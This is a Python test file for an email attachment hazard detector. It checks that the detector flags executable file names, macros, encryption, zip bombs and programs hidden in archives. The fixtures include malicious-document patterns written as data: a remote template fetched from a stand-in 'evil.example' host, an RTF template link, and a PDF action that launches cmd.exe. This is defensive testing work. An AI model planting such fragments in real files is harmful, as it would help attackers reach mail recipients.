from __future__ import annotations

import io
import time
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tomail.message.hazards import hazards_of, is_program
from tomail.model.mail import Hazard

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"
EXE = b"MZ\x90\x00" + b"\x00" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.example/relationships/attachedTemplate"'
    b' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
ONENOTE = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


def archive(*names: str, content: bytes = b"x", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as file:
        for name in names:
            file.writestr(name, content)
    return made.getvalue()


def encrypted(content: bytes) -> bytes:
    """With the flag that zip programs set."""
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(signature) + flags
        content = content[:at] + b"\x01" + content[at + 1 :]
    return content


WORD = ("[Content_Types].xml", "word/document.xml")


@pytest.mark.parametrize(
    "name",
    "a.exe Rechnung.pdf.EXE x.lnk makro.docm a.js skript.sh bild.iso a.desktop seite.html bild.svg notiz.one"
    " hilfe.chm a.ps1 a.jar a.msi a.AppImage a.url a.vbs a.img a.mht a.exe.gz a.js."
    " a.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}".split(),
)
def test_programs(name: str) -> None:
    assert is_program(name)


@pytest.mark.parametrize("name", ["Befund.pdf", "bild.png", "brief.docx", "tabelle.xlsx", "ohne", "exe"])
def test_documents(name: str) -> None:
    assert not is_program(name)


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("befund.pdf", PDF, []),
        ("befund.pdf", PDF + b"trailer << /Encrypt 5 0 R >>", [Hazard.ENCRYPTED]),
        ("befund.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", [Hazard.LEADS_ELSEWHERE]),
        ("brief.rtf", rb"{\rtf1{\*\template http://evil.test/x}", [Hazard.LEADS_ELSEWHERE]),
        ("brief.rtf", rb"{\rtf1 Guten Tag}", []),
        ("archiv.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 9 + b"Bild.exe\x00", [Hazard.PROGRAM_INSIDE]),
        ("archiv.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20 + b"Rechnung.pdf\x00", []),
        ("befund.pdf", EXE, [Hazard.PROGRAM, Hazard.UNLIKE]),
        ("befund.pdf", archive("a.txt"), [Hazard.UNLIKE]),
        ("befund.pdf", b"<!DOCTYPE html><script>", [Hazard.UNLIKE]),
        ("bild.jpg", b"\x89PNG\r\n\x1a\n", []),  # one picture for another is no danger
        ("befund", EXE, [Hazard.PROGRAM]),
        ("text.txt", b"MZ ist ein Text", []),
        ("tabelle.xls", b"<html><table>", []),  # laboratories export so
        ("brief.doc", b"{\\rtf1", []),
        ("bilder.zip", archive("a.jpg"), []),
        ("bilder.zip", archive("a.jpg", "b.jpg.exe"), [Hazard.PROGRAM_INSIDE]),
        ("bilder.zip", archive("a.lnk. "), [Hazard.PROGRAM_INSIDE]),
        ("aussen.zip", archive("innen.zip", content=archive("x.js"), method=0), [Hazard.PROGRAM_INSIDE]),
        ("geheim.zip", encrypted(archive("a.pdf")), [Hazard.ENCRYPTED]),
        ("brief.docx", archive(*WORD), []),
        ("brief.docx", archive(*WORD, "word/vbaProject.bin"), [Hazard.MACROS]),
        ("mappe.xlsx", archive(*WORD, "xl/macrosheets/sheet1.xml"), [Hazard.MACROS]),
        ("brief.docx", archive(*WORD, "word/_rels/x.rels", content=TEMPLATE), [Hazard.LEADS_ELSEWHERE]),
        ("brief.docx", archive(*WORD, "word/_rels/document.xml.rels", content=LINK), []),
        ("brief.doc", OLE, []),
        ("brief.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), [Hazard.MACROS]),
        ("brief.docx", OLE + "EncryptedPackage".encode("utf-16-le"), [Hazard.ENCRYPTED]),
        ("archiv.rar", b"Rar!\x1a\x07\x00" + b"\x00\x00\x73\x80\x00\x0d\x00", [Hazard.ENCRYPTED]),
        ("archiv.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00\x00\x00\x00\x03\x04\x00\x00", [Hazard.ENCRYPTED]),
        ("abbild.dat", b"\x00" * 0x8001 + b"CD001", [Hazard.PROGRAM]),
        ("notiz.txt", ONENOTE, [Hazard.PROGRAM, Hazard.UNLIKE]),
    ],
)  # fmt: skip
def test_hazards(name: str, content: bytes, found: list[Hazard]) -> None:
    assert list(hazards_of(name, content)) == found


def test_a_bomb_is_not_unpacked() -> None:
    assert Hazard.HUGE in hazards_of("a.zip", _claiming(2 << 30))


def test_a_million_entries_are_not_read() -> None:
    many = b"PK\x01\x02".ljust(46, b"\x00") * 1_000_000
    begun = time.perf_counter()
    assert Hazard.HUGE in hazards_of("a.zip", b"PK\x03\x04" + many)
    assert time.perf_counter() - begun < 5


@given(
    st.binary(max_size=600),
    st.sampled_from([b"PK\x03\x04", OLE[:8], b"Rar!\x1a\x07\x01\x00", b"Rar!\x1a\x07\x00", b""]),
)
def test_never_raises(content: bytes, signature: bytes) -> None:
    hazards_of("a.zip", signature + content)


def _claiming(size: int) -> bytes:
    made = archive("a.txt")
    at = made.index(b"PK\x01\x02") + 24
    return made[:at] + size.to_bytes(4, "little") + made[at + 4 :]


@pytest.mark.parametrize("name", ["Kurs.iqy", "Praxis.mobileconfig", "Setup.appinstaller", "Befund.inetloc"])
def test_what_sets_up_or_leads_elsewhere_is_a_program(name: str) -> None:
    assert is_program(name)
